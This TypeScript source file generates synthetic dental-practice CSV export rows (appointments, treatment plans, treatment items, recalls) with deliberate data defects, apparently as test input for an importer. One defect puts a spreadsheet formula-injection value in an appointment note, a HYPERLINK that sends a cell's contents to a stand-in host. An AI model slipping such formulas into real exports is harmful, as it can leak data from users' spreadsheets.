import { dateOf } from '../../practice/calendar.js';
import { plainMoney, shortUsDate, styledMoney, usDate } from '../../practice/cells.js';
import type { LinkTo } from '../../practice/export-run.js';
import { NOBODY } from '../../practice/households.js';
import type { Household, Office, Person, Plan, PlannedItem, Recall, Visit } from '../../practice/model.js';
import { listed, type ColumnOf, type Row } from './export-layout.js';
import { isSound, isStudent, printedName, toPatient } from './export-people.js';

/** The students of the school by provider code. */
export const STUDENT_CODES = ['3441', '3442', '3443', '3444', '3445'] as const;

/** Appointment codes, in the order of the practice's kinds of visit; the last is for hygiene. */
export const APPOINTMENT_CODES = [
  { code: '030MIN', text: 'Thirty minutes', kind: 'Regular' }, { code: 'NEWPAT', text: 'New patient', kind: 'Regular' }, { code: 'RECALL', text: 'Recall', kind: 'Recall' },
  { code: 'TREAT', text: 'Treatment', kind: 'Regular' }, { code: 'EMERG', text: 'Emergency', kind: 'Regular' }, { code: 'CONSLT', text: 'Consultation', kind: 'Regular' },
  { code: 'HYGREC', text: 'Hygiene recall', kind: 'Hygiene Recall' },
] as const;
const RECALL_VISIT = 2;
const HYGIENE_CODE = 'HYGREC';

const VISIT_STATUSES = { scheduled: 'Scheduled', confirmed: 'Confirmed', completed: 'Checked out', 'no-show': 'Failed', broken: 'Cancelled', unscheduled: 'Pending' } as const;

const PLAN_STATUSES = {
  created: 'Entered', printed: 'Presented', 'pre-authorized': 'Pre-Auth', 'followed-up': 'Presented', preferred: 'Proposed', proposed: 'Proposed',
  accepted: 'Accepted', rejected: 'Declined', completed: 'Completed',
} as const;

/** The student who treats at a visit, empty where faculty does it alone. */
export function studentOf({ id }: Visit): string {
  return id % 3 === 0 ? '' : STUDENT_CODES[id % STUDENT_CODES.length] ?? STUDENT_CODES[0];
}

const VISIT_DEFECTS: readonly string[] = [
  'past-still-scheduled', 'patient-missing', 'booked-before-patient-record', 'booked-by-stranger', 'cancelled-as-completed', 'midnight-start',
  'provider-placeholder-booked', 'status-without-name', 'formula-in-note', 'length-zero', 'garbled-note',
];

/** A row of `appointments.csv`. Somebody who booked before there was a record of them has no id, which alone could tell who it is. */
export function appointmentRow(visit: Visit, person: Person, household: Household, office: Office): Row<'appointments.csv'> {
  const { defect } = visit;
  const isUnknown = defect === 'booked-before-patient-record' || defect === 'booked-by-stranger';
  const patient = isUnknown ? '' : String(defect === 'patient-missing' ? NOBODY + person.id : person.id);
  const provider = defect === 'provider-placeholder-booked' ? 'Walk-In' : visit.provider;
  const cells = {
    'Appointment ID': String(visit.id), 'Patient ID': patient, 'Patient Name': defect === 'booked-by-stranger' ? `Newcomer${visit.id}, Pat` : printedName(person, office),
    Date: usDate(visit.date), Time: clock(visit), Length: defect === 'length-zero' ? '0' : String(visit.minutes), Chair: chairOf(visit), Provider: provider,
    Student: studentOf(visit), 'Appt Code': codeOf(visit), Status: defect === 'status-without-name' ? 'Wandering' : VISIT_STATUSES[visit.status],
    'Procedure Codes': visit.codes.flatMap((id) => office.codes.find((code) => code.id === id)?.code ?? []).join(', '), Reason: visit.reason, Note: noteOf(visit),
  };
  const links: LinkTo[] = patient === String(person.id) ? [...toPatient(person, household)] : [];
  if (office.providers.some(({ id }) => id === provider)) links.push(['provider', 'provider', provider]);
  const change = (turn: number): readonly [ColumnOf<'appointments.csv'>, string] => {
    if (turn % 3 === 0) return ['Length', String(visit.minutes + 10)];
    return turn % 3 === 1 ? ['Reason', 'Moved by phone'] : ['Note', 'Please bring the new insurance card'];
  };
  const defects = defect !== null && VISIT_DEFECTS.includes(defect) ? [defect] : [];
  const more = isUnknown ? { records: [] } : isSound(person, household) && defect === null ? { change } : {};
  return { cells, about: { key: cells['Appointment ID'], links, defects, ...more } };
}

function clock({ defect, hour, minute }: Visit): string {
  if (defect === 'midnight-start') return '12:00 AM';
  return `${String(hour % 12 === 0 ? 12 : hour % 12)}:${String(minute).padStart(2, '0')} ${hour < 12 ? 'AM' : 'PM'}`;
}

/** A recall call needs no chair. */
function chairOf({ kind, id, room, secondProvider }: Visit): string {
  return kind === RECALL_VISIT && secondProvider === '' && id % 2 === 0 ? '' : room;
}

function codeOf({ kind, secondProvider }: Visit): string {
  if (kind === RECALL_VISIT && secondProvider !== '') return HYGIENE_CODE;
  return APPOINTMENT_CODES[kind]?.code ?? APPOINTMENT_CODES[0].code;
}

function noteOf({ defect, note }: Visit): string {
  if (defect === 'garbled-note') return 'Doesnâ€™t want a reminder';
  return defect === 'formula-in-note' ? '=HYPERLINK("http://example.com/?"&A1,"confirm")' : note;
}

/** Number and option under which a plan stands in axiUm; null for what axiUm has no plan for. */
export interface PlanPlace {
  readonly plan: string;
  readonly option: string;
}

/** axiUm has no default plan that copies the others; alternatives are options of one plan. */
export function placeOf(plan: Plan, plans: readonly Plan[]): PlanPlace | null {
  if (plan.isDefault) return null;
  if (plan.alternateSet === '') return { plan: String(plan.id), option: '' };
  const options = plans.filter(({ alternateSet }) => alternateSet === plan.alternateSet);
  return { plan: String(options[0]?.id ?? plan.id), option: String(options.indexOf(plan) + 1) };
}

const keyOf = ({ plan, option }: PlanPlace): string => (option === '' ? plan : `${plan}:${option}`);

/** A row of `treatment_plans.csv`. An option changes nothing that counts for certain: it may not be the one chosen. */
export function planRow(plan: Plan, place: PlanPlace, person: Person, household: Household): Row<'treatment_plans.csv'> {
  const isLost = plan.defect === 'plan-of-missing-patient';
  const cells = {
    'Treatment Plan': place.plan, Option: place.option, 'Patient ID': String(isLost ? NOBODY + person.id : person.id), 'Plan Name': plan.name,
    'Plan Status': PLAN_STATUSES[plan.status], Provider: plan.provider, Created: usDate(plan.created),
  };
  const counts = plan.defect === null && place.option === '' && plan.items.every(({ defect }) => defect === null);
  const change = (): readonly ['Plan Name', string] => ['Plan Name', `${plan.name} (revised)`];
  return {
    cells,
    about: {
      key: keyOf(place), links: isLost ? [] : toPatient(person, household), defects: listed(plan.defect),
      ...(isSound(person, household) && counts ? { change } : {}),
    },
  };
}

/** A row of `TRX.csv`. Work outside any plan is done work, or part of the patient's planned treatment, whose plan the `first` such row makes. */
export function treatmentRow(item: PlannedItem, place: PlanPlace | null, isFirst: boolean, person: Person, household: Household): Row<'TRX.csv'> {
  const { defect } = item;
  const cells = {
    Trx: String(item.id), Patient: String(person.id), TreatmentPlan: place?.plan ?? '', PlanOption: place?.option ?? '', Procedure: item.code, Description: item.text,
    TreatmentDate: isoDate(item), Status: item.completed ? 'C' : item.id % 9 === 0 ? 'I' : 'P', Site: item.tooth, Surface: item.surface,
    Fee: defect === 'fee-with-symbols' ? styledMoney(item.fee, 'symbols') : plainMoney(item.fee),
    InsEst: defect === 'estimate-not-set' ? '-1.00' : plainMoney(item.estimate), Provider: '', Deleted: defect === 'item-deleted' ? '1' : '0',
  };
  return { cells, about: { key: cells.Trx, defects: listed(defect), records: defect === 'item-deleted' ? [] : treatmentRecords(item, place, isFirst, person, household) } };
}

type Records = NonNullable<Row<'TRX.csv'>['about']['records']>;

function treatmentRecords(item: PlannedItem, place: PlanPlace | null, isFirst: boolean, person: Person, household: Household): Records {
  const key = String(item.id);
  if (place === null && item.completed) return [{ stream: 'completedProcedure', key, links: toPatient(person, household) }];
  const plan = place === null ? `${person.id}:planned` : keyOf(place);
  const made: Records = place === null && isFirst ? [{ stream: 'treatmentPlan', key: plan, links: toPatient(person, household) }] : [];
  return [...made, { stream: 'treatmentItem', key, links: [['plan', 'treatmentPlan', plan]] }];
}

function isoDate({ date }: PlannedItem): string {
  const { year, month, day } = dateOf(date);
  return `${year}-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}`;
}

/** A row of `recalls.csv`: patient and type identify it. */
export function recallRow(recall: Recall, person: Person, household: Household, office: Office): Row<'recalls.csv'> {
  const { defect } = recall;
  const isLost = defect === 'recall-of-missing-patient';
  const due = defect === 'recall-due-missing' ? '' : defect === 'recall-two-digit-year' ? shortUsDate(recall.due) : usDate(recall.due);
  const cells = {
    'Patient ID': String(isLost ? NOBODY + person.id : person.id), 'Recall Type': recall.type, 'Due Date': due,
    'Previous Date': defect === 'recall-prior-sentinel' ? '12/30/1899' : usDate(recall.prior), Interval: defect === 'recall-interval-odd' ? 'as needed' : `${recall.months}m1d`,
    Provider: recall.provider, Status: recall.status,
  };
  const change = (): readonly ['Due Date', string] => ['Due Date', usDate(recall.due + (recall.due > office.asOf ? 7 : -7))];
  return {
    cells,
    about: {
      key: `${cells['Patient ID']}:${recall.type}`, links: isLost || isStudent(household) ? [] : toPatient(person, household), defects: listed(defect),
      ...(isSound(person, household) && defect === null && recall.status !== 'Disabled' ? { change } : {}),
    },
  };
}
